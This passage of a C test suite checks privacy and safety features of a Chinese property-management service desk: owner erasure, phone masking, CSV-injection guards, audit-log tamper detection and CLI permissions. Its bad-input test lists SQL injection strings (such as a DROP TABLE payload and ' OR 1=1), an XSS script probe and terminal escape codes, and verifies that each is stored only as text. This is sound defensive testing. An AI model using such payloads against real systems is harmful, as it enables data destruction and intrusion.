      "SELECT count(*) FROM ticket_attachments WHERE ticket_id IN (%4$s, %5$s)",
      "SELECT count(*) FROM owner_tags WHERE owner_id = %3$s",
      "SELECT count(*) FROM owner_units WHERE owner_id = %3$s",
      "SELECT count(*) FROM audit_log WHERE instr(coalesce(detail, ''), '%1$s') OR instr(coalesce(detail, ''), '%2$s')",
    };
    for (guint i = 0; i < G_N_ELEMENTS (where); i++)
      {
        g_autofree char *o = g_strdup_printf ("%" G_GINT64_FORMAT, owner);
        g_autofree char *a = g_strdup_printf ("%" G_GINT64_FORMAT, t1);
        g_autofree char *b = g_strdup_printf ("%" G_GINT64_FORMAT, t2);
        g_autoptr(GString) sql = g_string_new (where[i]);

        g_string_replace (sql, "%1$s", name, 0);
        g_string_replace (sql, "%2$s", phone, 0);
        g_string_replace (sql, "%3$s", o, 0);
        g_string_replace (sql, "%4$s", a, 0);
        g_string_replace (sql, "%5$s", b, 0);
        g_assert_cmpint (scalar (f, sql->str), ==, 0);
      }
  }
  /* the neighbour's note keeps its sense, without the number */
  {
    g_autofree char *sql = g_strdup_printf ("SELECT body FROM ticket_events WHERE kind = 'note' AND ticket_id = %" G_GINT64_FORMAT, other);
    g_autofree char *note = text_of (f, sql);
    g_assert_true (g_str_has_prefix (note, "楼上业主电话"));
    g_assert_true (g_str_has_suffix (note, "，已联系"));
  }
  /* search and the owner lookup find nothing of them */
  found = kefu_desk_find_owners (f->store, "13912345678", 5, &error);
  g_assert_cmpuint (g_list_model_get_n_items (G_LIST_MODEL (found)), ==, 0);
  for (guint i = 0; i < 3; i++)
    {
      const char *needles[] = { name, phone, "欧阳" };

      q.search = needles[i];
      hits = kefu_desk_query_ticket_ids (f->store, &q, NULL, &error);
      g_assert_no_error (error);
      g_assert_cmpuint (hits->len, ==, 0);
      g_clear_pointer (&hits, g_array_unref);
    }
  /* request and completion audited, by ids only */
  g_assert_cmpint (scalar (f, "SELECT count(*) FROM audit_log WHERE action = 'erase_owner_request' AND subject_table = 'owners' "
                              "AND subject_id = (SELECT max(id) FROM owners) AND user_id = (SELECT id FROM users WHERE login = 'zhengjun')"), ==, 1);
  g_assert_cmpint (scalar (f, "SELECT count(*) FROM audit_log WHERE action = 'erase_owner_done' "
                              "AND detail GLOB 'erasure=1 tickets=2 texts=* attachments=1'"), ==, 1);
  g_assert_cmpint (scalar (f, "SELECT count(*) FROM owner_erasures WHERE state = 'done' AND completed_at IS NOT NULL"), ==, 1);
  /* the timeline is append-only again once the erasure is done */
  {
    g_autofree char *refused = other_exec (f->path, "UPDATE ticket_events SET body = 'x' WHERE kind = 'note'", NULL);
    g_assert_nonnull (refused);
  }

  /* nor in the file's bytes: deleted content overwritten, the index merged, the WAL checkpointed */
  g_assert_false (file_holds (f->path, phone));
  g_assert_false (file_holds (f->path, name));
  g_assert_false (file_holds (f->path, "爱养猫"));
  g_assert_false (file_holds (wal, phone));
  g_assert_false (file_holds (wal, name));

  /* once is enough; and the chain still holds */
  g_assert_false (kefu_owner_erase (f->store, owner, &report, &error));
  g_assert_error (error, KEFU_STORE_ERROR, KEFU_STORE_ERROR_INVALID);
  g_clear_error (&error);
  g_assert_true (kefu_audit_verify (f->store, NULL, NULL, NULL, &error));
  g_assert_no_error (error);
}

/* Masking helpers --------------------------------------------------------- */

static void
test_masking (void)
{
  g_autofree char *text = kefu_mask_phones_in_text ("业主13812345678，另138-1234-5678、138 1234 5679；工单GD202611250007；"
                                                     "座机0755-12345678；编号A13812345678");
  g_autofree char *one = kefu_mask_name ("王芳");
  g_autofree char *four = kefu_mask_name ("欧阳娜娜");
  g_autofree char *single = kefu_mask_name ("王");
  g_autofree char *phone = kefu_mask_phone ("13812345678");

  g_assert_cmpstr (text, ==, "业主138****5678，另138****5678、138****5679；工单GD202611250007；"
                             "座机0755-12345678；编号A13812345678");
  g_assert_cmpstr (one, ==, "王*");
  g_assert_cmpstr (four, ==, "欧***");
  g_assert_cmpstr (single, ==, "王*");
  g_assert_cmpstr (phone, ==, "138****5678");
  g_assert_true (kefu_csv_needs_apostrophe ("=1+1"));
  g_assert_true (kefu_csv_needs_apostrophe ("\tx"));
  g_assert_true (kefu_csv_needs_apostrophe ("\rx"));
  g_assert_true (kefu_csv_needs_apostrophe ("''@x"));
  g_assert_false (kefu_csv_needs_apostrophe ("'x"));
  g_assert_false (kefu_csv_needs_apostrophe ("1-2"));
  g_assert_true (kefu_csv_has_apostrophe ("'-2"));
  g_assert_false (kefu_csv_has_apostrophe ("'2"));
}

/* The owner lookup: what is typed is text, % and _ included ------------------ */

static void
test_owner_lookup_like (Fixture       *f,
                        gconstpointer  data)
{
  g_autoptr(GError) error = NULL;
  static const struct { const char *typed; const char *finds; } cases[] = {
    { "%", "百分%业主" },
    { "_", "张_三" },
    { "张_", "张_三" },
    { "\\", "反斜\\杠" },
  };

  g_assert_null (other_exec (f->path,
      "INSERT INTO owners (id, name, phone, created_at) VALUES (90001, '百分%业主', NULL, 0), (90002, '张_三', NULL, 0), "
      "  (90003, '张三', NULL, 0), (90004, '张大三', NULL, 0), (90005, '反斜\\杠', NULL, 0)",
      "INSERT INTO owner_units (owner_id, unit_id, relation) SELECT o, (SELECT min(id) FROM units), 'owner' "
      "  FROM (SELECT 90001 AS o UNION SELECT 90002 UNION SELECT 90003 UNION SELECT 90004 UNION SELECT 90005) AS chosen", NULL));
  for (guint i = 0; i < G_N_ELEMENTS (cases); i++)
    {
      g_autoptr(GListStore) owners = kefu_desk_find_owners (f->store, cases[i].typed, 50, &error);
      g_autoptr(KefuChoice) first = NULL;

      g_assert_no_error (error);
      g_assert_cmpuint (g_list_model_get_n_items (G_LIST_MODEL (owners)), ==, 1);
      first = g_list_model_get_item (G_LIST_MODEL (owners), 0);
      g_assert_cmpstr (kefu_choice_get_name (first), ==, cases[i].finds);
    }
}

/* Bad input ---------------------------------------------------------------- */

static const char *const evil[] = {
  "'); DROP TABLE tickets; --",
  "Robert'); DELETE FROM owners WHERE ('1' = '1",
  "\" OR \"1\"=\"1",
  "' OR 1=1 --",
  "\"",
  "*",
  "漏水*",
  "NEAR(漏水 电梯, 2)",
  "NEAR(",
  "电梯 OR 漏水",
  "OR",
  "AND NOT",
  "body:漏水",
  "^漏水",
  "{body}: x",
  "%_%",
  "<b>粗体</b> &amp; <script>alert(1)</script>",
  "😀 emoji 与 \u202eRTL覆盖",
};

/* control characters: through the desk only (importers may refuse them) */
static const char *const control[] = {
  "响铃\a退格\b转义\x1b[31m红字\x1b[0m删除\x7f",
  "换页\f竖制表\v结束",
};

static int run_cli_in (const char  *input,
                       char       **out,
                       char       **err,
                       const char  *first,
                       ...) G_GNUC_NULL_TERMINATED;

static void
test_bad_input (Fixture       *f,
                gconstpointer  data)
{
  g_autoptr(GError) error = NULL;
  g_autoptr(GPtrArray) all = g_ptr_array_new_with_free_func (g_free);
  g_autoptr(GArray) ids = g_array_new (FALSE, FALSE, sizeof (gint64));
  g_autofree char *csv_path = kefu_test_path (&f->dir, "evil.csv");
  g_autofree char *owners_path = kefu_test_path (&f->dir, "evil-owners.csv");
  g_autoptr(GString) csv = g_string_new ("number,created_at,channel,kind,location,owner_name,description\r\n");
  g_autoptr(GString) owners_csv = g_string_new ("姓名,电话,楼栋,房号,关系\r\n");
  g_autoptr(KefuImportReport) report = NULL;
  gint64 tables_before = scalar (f, "SELECT count(*) FROM sqlite_master");
  gint64 owners_before = scalar (f, "SELECT count(*) FROM owners");
  GString *longtext = g_string_new ("很长的描述");

  for (guint i = 0; i < 20000; i++)
    g_string_append (longtext, i % 7 ? "水" : "'\"*");
  g_string_append (longtext, "结尾");
  for (guint i = 0; i < G_N_ELEMENTS (evil); i++)
    g_ptr_array_add (all, g_strdup (evil[i]));
  for (guint i = 0; i < G_N_ELEMENTS (control); i++)
    g_ptr_array_add (all, g_strdup (control[i]));
  g_ptr_array_add (all, g_string_free (longtext, FALSE));

  /* intake and notes: stored exactly, read back exactly */
  act_as (f, "chenjing");
  for (guint i = 0; i < all->len; i++)
    {
      const char *text = all->pdata[i];
      g_autoptr(KefuTicket) t = NULL;
      g_autoptr(GListStore) events = NULL;
      g_autoptr(KefuTicketEvent) last = NULL;
      gint64 id = log_ticket (f, 0, text, "13800001111", text);

      g_array_append_val (ids, id);
      g_assert_true (kefu_desk_add_note (f->store, id, text, &error));
      g_assert_no_error (error);
      t = kefu_desk_get_ticket (f->store, id, &error);
      g_assert_no_error (error);
      g_assert_cmpstr (kefu_ticket_get_description (t), ==, text);
      g_assert_cmpstr (kefu_ticket_get_owner_name (t), ==, text);
      events = kefu_desk_list_events (f->store, id, &error);
      last = g_list_model_get_item (G_LIST_MODEL (events), g_list_model_get_n_items (G_LIST_MODEL (events)) - 1);
      g_assert_cmpstr (kefu_ticket_event_get_body (last), ==, text);
    }

  /* search: every string as a query is text, never syntax; no error, nothing dropped */
  for (guint i = 0; i < all->len; i++)
    {
      KefuTicketQuery q = { .search = all->pdata[i] };
      g_autoptr(GArray) hits = kefu_desk_query_ticket_ids (f->store, &q, NULL, &error);
      g_autoptr(GListStore) owners = kefu_desk_find_owners (f->store, all->pdata[i], 5, &error);
      g_autofree char *expr = kefu_search_match_expr (all->pdata[i]);
      gboolean mine = FALSE;

      g_assert_no_error (error);
      g_assert_nonnull (hits);
      g_assert_nonnull (owners);
      /* a query with words finds the ticket that holds them */
      for (guint h = 0; h < hits->len; h++)
        mine |= g_array_index (hits, gint64, h) == g_array_index (ids, gint64, i);
      if (expr != NULL)
        g_assert_true (mine);
    }
  {
    KefuTicketQuery q = { .search = "DROP TABLE tickets" };
    g_autoptr(GArray) hits = kefu_desk_query_ticket_ids (f->store, &q, NULL, &error);
    g_assert_cmpuint (hits->len, ==, 1);
    g_assert_cmpint (g_array_index (hits, gint64, 0), ==, g_array_index (ids, gint64, 0));
  }

  /* imports of tickets and owners: the same strings as text (a CSV quotes every field) */
  for (guint i = 0; i < G_N_ELEMENTS (evil); i++)
    {
      g_autoptr(GString) field = g_string_new (evil[i]);

      g_string_replace (field, "\"", "\"\"", 0);
      g_string_append_printf (csv, ",2026-11-2%u 09:%02u,phone,repair,3栋502,\"%s\",\"%s\"\r\n", i % 5, i, field->str, field->str);
      g_string_append_printf (owners_csv, "\"%s\",,3栋,%u,业主\r\n", field->str, 101 + i);
    }
  g_assert_true (g_file_set_contents (csv_path, csv->str, -1, NULL));
  g_assert_true (g_file_set_contents (owners_path, owners_csv->str, -1, NULL));
  report = kefu_import_tickets (f->store, csv_path, NULL, NULL, NULL, NULL, &error);
  g_assert_no_error (error);
  g_assert_cmpuint (kefu_import_report_get_n_problems (report), ==, 0);
  g_assert_cmpuint (kefu_import_report_get_n_imported (report), ==, G_N_ELEMENTS (evil));
  g_clear_object (&report);
  report = kefu_import_owners (f->store, owners_path, NULL, NULL, NULL, NULL, &error);
  g_assert_no_error (error);
  g_assert_cmpuint (kefu_import_report_get_n_problems (report), ==, 0);
  for (guint i = 0; i < G_N_ELEMENTS (evil); i++)
    {
      g_autoptr(KefuStore) other = kefu_test_other_store_for (f->path);
      gint64 tickets = kefu_test_count (other, "tickets", "description = ?1", KEFU_TEST_TEXT (evil[i]));
      gint64 owners = kefu_test_count (other, "owners", "name = ?1", KEFU_TEST_TEXT (evil[i]));

      /* two tickets hold it (the desk's and the import's), one owner is called it */
      if (tickets != 2 || owners != 1)
        g_error ("“%s”: %d tickets, %d owners", evil[i], (int) tickets, (int) owners);
    }

  /* nothing was run: every table is there, the owners only grew */
  g_assert_cmpint (scalar (f, "SELECT count(*) FROM sqlite_master"), ==, tables_before);
  g_assert_cmpint (scalar (f, "SELECT count(*) FROM owners"), >, owners_before);

  /* kefu-cli: each string as a search query finds the ticket holding it and
   * fails on none; as a new user's name it is listed as typed */
  for (guint i = 0; i < G_N_ELEMENTS (evil); i++)
    {
      g_autofree char *out = NULL, *err = NULL;
      g_autofree char *sql = g_strdup_printf ("SELECT number FROM tickets WHERE id = %" G_GINT64_FORMAT,
                                              g_array_index (ids, gint64, i));
      g_autofree char *number = text_of (f, sql);
      g_autofree char *expr = kefu_search_match_expr (evil[i]);

      if (run_cli_in ("1234\n", &out, &err, "--db", f->path, "--as", "chenjing", "search", evil[i], "--limit", "1000",
                      NULL) != 0)
        g_error ("search “%s” failed: %s", evil[i], err);
      if (expr != NULL && strstr (out, number) == NULL)
        g_error ("search “%s” did not list %s", evil[i], number);
    }
  {
    const guint named[] = { 0, 2, 16 };   /* SQL, quotes, markup */
    g_autofree char *out = NULL, *err = NULL;

    for (guint n = 0; n < G_N_ELEMENTS (named); n++)
      {
        g_autofree char *login = g_strdup_printf ("evil%u", named[n]);

        g_assert_cmpint (run_cli_in ("1234\n5678\n", &out, &err, "--db", f->path, "--as", "admin", "user", "add", login,
                                     "--name", evil[named[n]], "--role", "agent", NULL), ==, 0);
      }
    g_assert_cmpint (run_cli_in ("1234\n", &out, &err, "--db", f->path, "--as", "admin", "user", "list", NULL), ==, 0);
    for (guint n = 0; n < G_N_ELEMENTS (named); n++)
      {
        g_autofree char *line = g_strdup_printf ("evil%u\t%s\t", named[n], evil[named[n]]);
        g_assert_nonnull (strstr (out, line));
      }
    /* and the new user signs in with the PIN given */
    g_assert_cmpint (run_cli_in ("5678\n", &out, &err, "--db", f->path, "--as", "evil0", "search", "DROP TABLE", NULL), ==, 0);
  }

  /* nothing was run by any of it */
  g_assert_cmpint (scalar (f, "SELECT count(*) FROM sqlite_master"), ==, tables_before);
  g_assert_true (kefu_audit_verify (f->store, NULL, NULL, NULL, &error));
  g_assert_no_error (error);
}

/* kefu-cli ------------------------------------------------------------------ */

#define PIN "1234\n"

/* kefu-cli now with @input on its standard input (NULL: an empty one),
 * replacing what *out and *err held */
static int
run_cli_in (const char  *input,
            char       **out,
            char       **err,
            const char  *first,
            ...)
{
  va_list args;
  int status;

  g_free (*out);
  g_free (*err);
  va_start (args, first);
  status = kefu_test_run_cli_valist (NULL, input, out, err, first, args);
  va_end (args);
  return status;
}

#define run_cli(out, err, ...) run_cli_in (NULL, out, err, __VA_ARGS__)

static void
test_cli (KefuTestDir   *d,
          gconstpointer  data)
{
  g_autofree char *path = kefu_test_path (d, "kefu.db");
  g_autofree char *csv = kefu_test_path (d, "full.csv");
  g_autofree char *out = NULL, *err = NULL;
  g_autofree char *cut = NULL;

  umask (022);
  g_assert_cmpint (run_cli (&out, &err, "--db", path, "init", "--demo", "100", "--now", "2026-11-25 10:00", NULL), ==, 0);
  g_assert_cmpuint (file_mode (path), ==, 0600);
  g_assert_cmpint (run_cli (&out, &err, "--db", path, "audit", "verify", NULL), ==, 1);
  g_assert_nonnull (strstr (err, "--as LOGIN"));
  g_assert_cmpint (run_cli_in (PIN, &out, &err, "--db", path, "--as", "xuqiang", "audit", "verify", NULL), ==, 0);
  g_assert_nonnull (strstr (out, "Audit log: ok ("));

  /* the search shows mobile numbers masked */
  g_assert_null (other_exec (path, "UPDATE tickets SET description = '回电13812345678，厨房漏水' WHERE id = 1", NULL));
  {
    g_autofree char *number = kefu_test_other_row_text (path, "SELECT number FROM tickets WHERE id = 1");

    g_assert_cmpint (run_cli_in (PIN, &out, &err, "--db", path, "--as", "xuqiang", "search", number, NULL), ==, 0);
  }
  g_assert_nonnull (strstr (out, "回电138****5678，厨房漏水"));
  g_assert_null (strstr (out, "13812345678"));

  /* a full export: only as someone with the right */
  g_assert_cmpint (run_cli (&out, &err, "--db", path, "export", "tickets", "--out", csv, "--full", NULL), ==, 1);
  g_assert_nonnull (strstr (err, "--as"));
  g_assert_cmpint (run_cli_in (PIN, &out, &err, "--db", path, "--as", "guohong", "export", "tickets", "--out", csv, "--full", NULL), ==, 1);
  g_assert_nonnull (strstr (err, "may not export"));
  g_assert_false (g_file_test (csv, G_FILE_TEST_EXISTS));
  g_assert_cmpint (run_cli_in (PIN, &out, &err, "--db", path, "--as", "xuqiang", "export", "tickets", "--out", csv, "--full", NULL), ==, 0);
  g_assert_true (file_holds (csv, "13812345678"));
  g_assert_cmpuint (file_mode (csv), ==, 0600);
  g_assert_cmpint (kefu_test_scalar (path, "SELECT count(*) FROM audit_log WHERE action = 'export_tickets_full' "
                                           "AND user_id = (SELECT id FROM users WHERE login = 'xuqiang')"), ==, 1);

  /* an erasure request, by a manager or an administrator only */
  g_assert_cmpint (run_cli (&out, &err, "--db", path, "owner", "erase", "7", NULL), ==, 1);
  g_assert_nonnull (strstr (err, "--as LOGIN"));
  g_assert_cmpint (run_cli_in (PIN, &out, &err, "--db", path, "--as", "chenjing", "owner", "erase", "7", NULL), ==, 1);
  g_assert_nonnull (strstr (err, "managers and administrators"));
  g_assert_cmpint (run_cli_in (PIN, &out, &err, "--db", path, "--as", "admin", "owner", "erase", "7", NULL), ==, 0);
  g_assert_nonnull (strstr (out, "Owner 7 erased"));
  g_assert_cmpint (run_cli_in (PIN, &out, &err, "--db", path, "--as", "admin", "owner", "erase", "7", NULL), ==, 1);
  g_assert_cmpint (run_cli_in (PIN, &out, &err, "--db", path, "--as", "xuqiang", "audit", "verify", NULL), ==, 0);
  g_assert_nonnull (strstr (out, "Audit log: ok ("));
  /* the sign-ins are entries of the same chain */
  g_assert_cmpint (kefu_test_scalar (path, "SELECT count(*) FROM audit_log WHERE action = 'sign_in' AND hash IS NOT NULL"), >, 0);
  g_assert_cmpint (kefu_test_scalar (path, "SELECT count(*) FROM audit_log WHERE hash IS NULL"), ==, 0);

  /* the last entry cut off with sqlite3: check names it and fails. (It is
   * the administrator's sign-in: the next sign-in, xuqiang's, takes its id
   * again and is a different entry. Had it been xuqiang's own sign-in in the
   * same second, the new one would be the same entry, hash and all.) */
  g_assert_cmpint (run_cli_in (PIN, &out, &err, "--db", path, "--as", "admin", "audit", "verify", NULL), ==, 0);
  cut = g_strdup_printf ("ends at entry %d", (int) kefu_test_scalar (path, "SELECT max(id) - 1 FROM audit_log"));
  g_assert_nonnull (other_exec (path, "DELETE FROM audit_log", NULL));
  g_assert_null (other_exec (path, "DROP TRIGGER audit_log_no_delete", "DELETE FROM audit_log WHERE id = (SELECT max(id) FROM audit_log)", NULL));
  g_assert_cmpint (run_cli (&out, &err, "--db", path, "check", NULL), ==, 1);
  g_assert_nonnull (strstr (err, cut));
  g_assert_nonnull (strstr (err, "removed"));
  /* audit verify signs in first (an entry of its own), and fails too */
  g_assert_cmpint (run_cli_in (PIN, &out, &err, "--db", path, "--as", "xuqiang", "audit", "verify", NULL), ==, 1);
  /* an anchor from a report, given by hand */
  g_assert_cmpint (run_cli_in (PIN, &out, &err, "--db", path, "--as", "xuqiang", "audit", "verify", "--anchor",
                               "1:" "0000000000000000000000000000000000000000000000000000000000000000", NULL), ==, 1);
  g_assert_nonnull (strstr (err, "entry 1 is not the one its anchor names"));
  g_assert_cmpint (run_cli_in (PIN, &out, &err, "--db", path, "--as", "xuqiang", "audit", "verify", "--anchor", "banana", NULL), ==, 2);
  /* an entry changed: the first broken one is named */
  g_assert_null (other_exec (path, "DROP TRIGGER audit_log_no_update", "UPDATE audit_log SET detail = 'format=csv rows=1' WHERE id = 2", NULL));
  g_assert_cmpint (run_cli_in (PIN, &out, &err, "--db", path, "--as", "xuqiang", "audit", "verify", NULL), ==, 1);
  g_assert_nonnull (strstr (err, "entry 2 does not follow from entry 1"));
}

/* The audit view reads its entries a page (128) at a time as they are
 * asked for: every entry of several pages, newest first, is the row an
 * analyst's connection reads; a filter keeps only its action. */
static void
test_audit_list_pages (Fixture       *f,
                       gconstpointer  data)
{
  g_autoptr(GError) error = NULL;
  g_autoptr(GListModel) all = NULL;
  g_autoptr(GListModel) mine = NULL;
  KefuAuditFilter filter = { .action = "test_page" };
  g_autoptr(KefuStore) other = kefu_test_other_store_for (f->path);
  const char *by_id = "SELECT id, action, subject_id, detail FROM audit_log ORDER BY id DESC";
  KEFU_AUTO_QUERY *stmt = NULL;
  guint n = 0;

  act_as (f, "admin");
  g_assert_true (kefu_store_begin (f->store, &error));
  for (int i = 0; i < 300; i++)
    {
      g_autofree char *detail = g_strdup_printf ("page %d", i);
      g_assert_true (kefu_audit_append (f->store, kefu_store_get_actor (f->store), "test_page", "users", i, detail, &error));
    }
  g_assert_true (kefu_store_commit (f->store, &error));
  g_assert_no_error (error);

  all = kefu_audit_list (f->store, NULL, &error);
  g_assert_no_error (error);
  g_assert_cmpuint (g_list_model_get_n_items (all), ==, (guint) scalar (f, "SELECT count(*) FROM audit_log"));
  g_assert_cmpuint (g_list_model_get_n_items (all), >, 300);
  stmt = kefu_test_query (other, by_id);
  /* from the last page back, so pages are read out of order */
  for (guint i = g_list_model_get_n_items (all); i-- > 0;)
    g_object_unref (g_list_model_get_item (all, i));
  while (kefu_test_step (other, by_id, stmt))
    {
      g_autoptr(KefuAuditEntry) e = g_list_model_get_item (all, n++);

      g_assert_nonnull (e);
      g_assert_cmpint (kefu_audit_entry_get_id (e), ==, kefu_query_get_int (stmt, 0));
      g_assert_cmpstr (kefu_audit_entry_get_action (e), ==, kefu_query_get_text (stmt, 1));
      g_assert_cmpint (kefu_audit_entry_get_subject_id (e), ==, kefu_query_get_int (stmt, 2));
      g_assert_cmpstr (kefu_audit_entry_get_detail (e), ==, kefu_query_get_text (stmt, 3));
    }
  g_assert_cmpuint (n, ==, g_list_model_get_n_items (all));

  mine = kefu_audit_list (f->store, &filter, &error);
  g_assert_no_error (error);
  g_assert_cmpuint (g_list_model_get_n_items (mine), ==, 300);
  for (guint i = 0; i < 300; i++)
    {
      g_autoptr(KefuAuditEntry) e = g_list_model_get_item (mine, i);
      g_autofree char *detail = g_strdup_printf ("page %u", 299 - i);

      g_assert_cmpstr (kefu_audit_entry_get_action (e), ==, "test_page");
      g_assert_cmpstr (kefu_audit_entry_get_detail (e), ==, detail);
    }
}

int
main (int    argc,
      char **argv)
{
  g_setenv ("TZ", "Asia/Shanghai", TRUE);
  g_test_init (&argc, &argv, NULL);

  ADD ("/privacy/audit/chain-and-triggers", test_audit_chain);
  ADD ("/privacy/audit/anchor", test_audit_anchor);
  ADD ("/privacy/audit/timeline", test_audit_timeline);
  ADD ("/privacy/audit/report-anchor", test_audit_report_anchor);
  ADD ("/privacy/audit/list-pages", test_audit_list_pages);
  KEFU_TEST_ADD ("/privacy/audit/migration", test_audit_migration);
  KEFU_TEST_ADD ("/privacy/files-0600", test_files_private);
  g_test_add_func ("/privacy/masking", test_masking);
  ADD ("/privacy/export/masked-by-default", test_export_masked_by_default);
  ADD ("/privacy/export/csv-injection", test_export_csv_injection);
  ADD ("/privacy/export/xlsx-strings", test_export_xlsx_strings);
  ADD ("/privacy/erasure", test_owner_erasure);
  ADD ("/privacy/owner-lookup-like", test_owner_lookup_like);
  ADD ("/privacy/bad-input", test_bad_input);
  KEFU_TEST_ADD ("/privacy/cli", test_cli);

  return g_test_run ();
}
